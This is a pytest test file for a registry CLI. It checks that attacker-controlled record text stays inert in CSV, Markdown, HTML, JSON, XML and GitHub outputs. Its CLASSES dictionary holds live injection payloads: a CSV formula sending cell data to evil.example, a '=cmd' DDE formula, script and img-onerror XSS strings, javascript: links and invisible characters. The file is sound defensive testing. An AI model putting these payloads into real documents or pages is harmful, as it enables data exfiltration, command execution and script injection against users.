"""Record text is data in every output: each output format x each injection class.

A contributor controls the titles, names and free text of the records they submit. Each class
below puts an attack into those fields (and into a value `validate` quotes); every command and
format that shows them must keep it inert for its destination: no control or invisible
character reaches any output, no CSV cell starts a formula, no Markdown becomes a link, an
image or HTML, no table gains a column, no HTML tag is injected, and JSON stays JSON.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest

from acsg_cli.cli import app
from acsg_cli.render.safety import UNSAFE
from tests.conftest import FIXTURE_REGISTRY, StrictRunner

# Each class: text put in titles, names and free text (YAML double-quoted escapes allowed).
CLASSES: dict[str, str] = {
    "formula": '=HYPERLINK(\\"http://evil.example/?q=\\"&A1,\\"open\\")',
    "formula_after_space": " \\t=cmd|' /C calc'!A0",
    "formula_plus_minus_at": "+1+1 -2 @SUM(1)",
    "markdown_link_image": "[click](javascript:alert(1)) ![t](https://evil.example/t.png)",
    "raw_html": "<img src=x onerror=alert(1)><script>alert(1)</script>",
    "autolink": "<https://evil.example> www.evil.example spy@evil.example @team",
    "table_break": "a | b\\n| c | d |\\n\\n# heading",
    "invisible": "safe\\rEVIL\\u2028\\u200b\\ufeff\\U000E0041\\u00ad",
    "rich_markup": "[bold red]alarm[/] [link=https://evil.example]x[/link]",
}

# Each registry carries three classes at once (one that must open a cell, two that may come
# after it), so every class reaches every output in a third of the runs.
GROUPS: dict[str, tuple[str, str, str]] = {
    "formula+markdown+html": ("formula", "markdown_link_image", "raw_html"),
    "formula_after_space+autolink+table_break": (
        "formula_after_space",
        "autolink",
        "table_break",
    ),
    "plus_minus_at+invisible+rich": ("formula_plus_minus_at", "invisible", "rich_markup"),
}
assert sorted(c for g in GROUPS.values() for c in g) == sorted(CLASSES)

# The fields that carry the payload: request title and gap, offer title, entity and
# expertise, match rationale.
FIELDS = [
    ("requests/REQ-2021-001.yaml", "title: Reform of the first-instance asylum procedure", "title"),
    ("requests/REQ-2021-001.yaml", "lead_authority: ", "lead_authority"),
    ("requests/REQ-2021-001.yaml", "gap: The CNE has no written", "gap"),
    (
        "offers/OFF-2021-001.yaml",
        "title: Peer support on asylum procedures and legislation",
        "title",
    ),
    ("offers/OFF-2021-001.yaml", "  name: Office français de protection", "  name"),
    ("matches/MAT-2021-001.yaml", "rationale: Covers legislation", "rationale"),
]


_ONE_LINE = {"title", "  name", "lead_authority"}


def _hostile_registry(root: Path, group: str) -> Path:
    payload = " ".join(CLASSES[c] for c in GROUPS[group])
    data = root / "data"
    shutil.copytree(FIXTURE_REGISTRY, data)
    for relative, starts, key in FIELDS:
        path = data / relative
        value = payload.replace("\\n", " ") if key in _ONE_LINE else payload
        lines = path.read_text(encoding="utf-8").splitlines()
        lines = [f'{key}: "{value}"' if line.startswith(starts) else line for line in lines]
        path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    # a value validate quotes in its message
    other = data / "requests" / "REQ-2021-002.yaml"
    text = (data / "requests" / "REQ-2021-001.yaml").read_text(encoding="utf-8")
    text = text.replace("id: REQ-2021-001", "id: REQ-2021-002").replace(
        "received_via: unhcr_country_office", f'received_via: "{payload}"'
    )
    other.write_text(text, encoding="utf-8")
    return data


@pytest.fixture(scope="module")
def registries(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    return {group: _hostile_registry(tmp_path_factory.mktemp("hostile"), group) for group in GROUPS}


# --- what each destination must never contain ----------------------------------------------

_FORMULA = re.compile(r"^[\s\u3000]*[=+\-@\uff1d\uff0b\uff0d\uff20]")
_NUMBER = re.compile(r"^-?[0-9]+(?:\.[0-9]+)?$")


def _csv_safe(out: str) -> None:
    for row in csv.reader(io.StringIO(out)):
        for cell in row:
            assert not (_FORMULA.match(cell) and not _NUMBER.match(cell)), cell
            assert not cell.startswith(("\t", "\r")), cell


def _markdown_safe(out: str) -> None:
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark").enable("table").enable("strikethrough")
    tokens = md.parse(out)
    kinds = set()
    for token in tokens:
        kinds.add(token.type)
        kinds.update(child.type for child in token.children or [])
    assert not kinds & {"link_open", "image", "html_inline", "html_block"}, kinds
    assert "<script" not in md.render(out) and "<img" not in md.render(out)
    # GFM turns these into links with no markup at all
    for autolink in (r"://", r"www\.evil", r"(?<!\\)@"):
        assert not re.search(autolink, out), autolink
    # tables keep their columns: no unescaped pipe was added to a row
    header = 0
    for line in out.splitlines():
        if line.startswith("|"):
            pipes = len(re.findall(r"(?<!\\)\|", line))
            if not header or line.startswith(("|--", "|:")):
                header = header or pipes
            assert pipes == header, line
        else:
            header = 0


def _html_safe(out: str) -> None:
    assert '<meta http-equiv="Content-Security-Policy"' in out
    assert "script-src" not in out or "default-src 'none'" in out
    for tag in ("<img", "<script", "<https:"):
        assert tag not in out, tag
    assert 'href="javascript' not in out


def _json_safe(out: str) -> None:
    json.loads(out, parse_constant=lambda name: pytest.fail(f"{name} is not JSON"))


def _github_safe(out: str) -> None:
    for line in out.splitlines():
        assert re.match(r"^::(error|warning|notice) file=[^\n]*::", line), line


def _xml_safe(out: str) -> None:
    from xml.etree import ElementTree

    root = ElementTree.fromstring(out.encode("utf-8"))
    assert not [e for e in root.iter() if e.tag in ("img", "script", "a")]


CHECKS: dict[str, Callable[[str], None]] = {
    "xml": _xml_safe,
    "table": lambda out: None,
    "csv": _csv_safe,
    "markdown": _markdown_safe,
    "html": _html_safe,
    "json": _json_safe,
    "github": _github_safe,
    "text": lambda out: None,
}

# (name, arguments, destination)
OUTPUTS: list[tuple[str, list[str], str]] = [
    *[
        (f"list-{kind}-{fmt}", ["list", kind, "--format", fmt], fmt)
        for kind in ("requests", "offers", "matches")
        for fmt in ("table", "csv", "markdown", "json")
    ],
    *[
        (f"show-{rid}-{fmt}", ["show", rid, "--format", fmt], fmt)
        for rid in ("REQ-2021-001", "OFF-2021-001", "MAT-2021-001")
        for fmt in ("table", "markdown", "json")
    ],
    *[
        (
            f"propose-{fmt}",
            ["match", "propose", "--explain", "--today", "2021-06-01", "--format", fmt],
            fmt,
        )
        for fmt in ("table", "markdown", "json")
    ],
    *[
        (f"status-{fmt}", ["report", "status", "--audience", "secretariat", "--format", fmt], fmt)
        for fmt in ("table", "markdown", "csv", "html", "json")
    ],
    *[
        (
            f"stocktaking-{fmt}",
            ["report", "stocktaking", "--audience", "secretariat", "--format", fmt],
            fmt,
        )
        for fmt in ("table", "markdown", "html", "json")
    ],
    *[
        (f"brief-{fmt}", ["brief", "MAT-2021-001", "--for", "OFF-2021-001", "--format", fmt], fmt)
        for fmt in ("markdown", "json")
    ],
    *[
        (f"validate-{fmt}", ["validate", "--format", fmt], fmt)
        for fmt in ("text", "github", "json")
    ],
    # --partial: the hostile registries have errors, which a publishing command refuses
    ("export-hxl", ["export", "hxl", "-o", "-", "--partial"], "csv"),
    ("export-gcr-updates", ["export", "gcr-updates", "-o", "-", "--partial"], "csv"),
    ("export-iati", ["export", "iati", "-o", "-", "--partial"], "xml"),
    ("export-refused", ["export", "hxl", "-o", "-"], "text"),
]


@pytest.mark.parametrize("cls", sorted(GROUPS))
@pytest.mark.parametrize(("name", "args", "destination"), OUTPUTS, ids=[o[0] for o in OUTPUTS])
def test_record_text_stays_inert(
    cls: str,
    name: str,
    args: list[str],
    destination: str,
    registries: dict[str, Path],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    summary = tmp_path / "summary.md"
    if destination == "github":
        monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
    result = StrictRunner().invoke(app, [*args, "--data", str(registries[cls])])
    assert result.exit_code in (0, 1), result.output
    assert "Traceback" not in result.output and "internal error" not in result.stderr
    for stream in (result.stdout, result.stderr):
        found = UNSAFE.search(stream)
        assert found is None, f"{found.group()!r} reached the output" if found else ""
        assert "\x1b" not in stream
    CHECKS[destination](result.stdout)
    if destination == "github":
        _markdown_safe(summary.read_text(encoding="utf-8"))


def test_the_payloads_load(tmp_path: Path) -> None:
    """Guard: the registries above hold every payload as loaded text (not a refused record),
    so the outputs really carry them."""
    from acsg_cli.registry import load_registry

    for n, group in enumerate(GROUPS):
        (tmp_path / str(n)).mkdir()
        registry = load_registry(_hostile_registry(tmp_path / str(n), group), root_display="data")
        loaded = {"REQ-2021-001", "OFF-2021-001", "MAT-2021-001"} - set(registry.all_ids())
        assert not loaded, (group, loaded, registry.problems)
